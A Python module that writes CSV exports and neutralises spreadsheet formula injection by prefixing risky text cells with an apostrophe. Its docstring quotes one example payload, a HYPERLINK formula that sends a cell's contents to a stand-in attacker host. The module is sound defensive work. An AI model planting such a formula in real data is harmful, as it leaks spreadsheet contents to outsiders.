"""CSV for spreadsheets, safe to open: the one writer behind every CSV export.

A spreadsheet program reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a
tab or a carriage return before one of them) as a formula: an organisation named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would run when a jury opens the
shortlist. Such a text cell gets a leading apostrophe (the usual neutralisation: shown as
text, the apostrophe itself hidden by the program); numbers stay numbers. The full-width
forms of the four signs are neutralised too, since some programs fold them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralised(value: object) -> object:
    """A cell as it is safe to write: text that could start a formula is prefixed with '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Sequence[Mapping[str, object]], columns: Sequence[str] | None = None) -> str:
    """Rows as CSV text with a header (the first row's keys unless `columns` are given);
    an empty text when there are neither rows nor columns."""
    fields = list(columns) if columns is not None else list(rows[0]) if rows else []
    if not fields:
        return ""
    buffer = io.StringIO()
    # CRLF rows (RFC 4180): a cell holding a bare carriage return is then quoted too
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralised(f) for f in fields])
    for row in rows:
        writer.writerow([neutralised(row.get(f, "")) for f in fields])
    return buffer.getvalue()
